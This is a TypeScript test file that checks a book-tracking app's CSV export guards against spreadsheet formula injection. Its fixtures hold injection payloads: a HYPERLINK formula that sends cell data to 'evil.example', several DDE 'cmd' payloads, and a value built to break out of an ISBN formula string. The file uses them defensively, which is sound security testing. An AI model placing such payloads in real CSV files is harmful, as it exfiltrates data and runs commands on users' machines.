import { csvCell, spreadsheetText, toCsv } from "@worker/features/imports/csv-cells";
import { GOODREADS_HEADER, parseImportCsv } from "@worker/features/imports/import-csv";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";

/** What a spreadsheet is handed for the cell once the CSV quoting is undone. */
const cellText = (written: string) => (parse(written) as string[][])[0]![0]!;

describe("csvCell: formula injection (OWASP CSV injection)", () => {
  // Titles, authors and publishers come from Open Library (anyone can edit it), the cover model and imported files.
  const attacks: [string, string][] = [
    ["=", '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ["+", "+cmd|' /C calc'!A0"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["tab", "\t=1+1"],
    ["carriage return", "\r=1+1"],
  ];
  for (const [lead, value] of attacks) {
    it(`turns a cell starting with ${lead} into quoted text with a leading single quote`, () => {
      const written = csvCell(value);
      expect(written.startsWith(`"'`)).toBe(true);
      expect(written.endsWith('"')).toBe(true);
      expect(cellText(written)).toBe(`'${value}`);
    });
  }

  it("leaves ordinary text, numbers and a single quote elsewhere alone", () => {
    expect(csvCell("Pride and Prejudice")).toBe("Pride and Prejudice");
    expect(csvCell("'Salem's Lot")).toBe("'Salem's Lot");
    expect(csvCell("Catch-22")).toBe("Catch-22");
    expect(csvCell(-1)).toBe("-1");
    expect(csvCell(279)).toBe("279");
    expect(csvCell(null)).toBe("");
    expect(csvCell('Emma, "Volume 1"')).toBe('"Emma, ""Volume 1"""');
  });

  it('keeps Goodreads\' own ="isbn" cells, and they cannot carry anything but text', () => {
    expect(csvCell(spreadsheetText("0141439580"))).toBe('"=""0141439580"""');
    expect(csvCell(spreadsheetText(""))).toBe('"="""""');
    // A quote in the value stays inside the formula's string literal.
    expect(cellText(csvCell(spreadsheetText('1")&cmd|"/C calc"!A0&("')))).toBe('="1"")&cmd|""/C calc""!A0&("""');
  });

  it("reads its own guarded cells back as the original text, so an export imports again unchanged", () => {
    const cells = GOODREADS_HEADER.map(() => "");
    cells[1] = "=Equations of Motion";
    cells[2] = "@author";
    cells[18] = "read";
    const parsed = parseImportCsv(toCsv(GOODREADS_HEADER, [cells]));
    expect(parsed.books[0]).toMatchObject({ title: "=Equations of Motion", author: "@author" });
  });
});
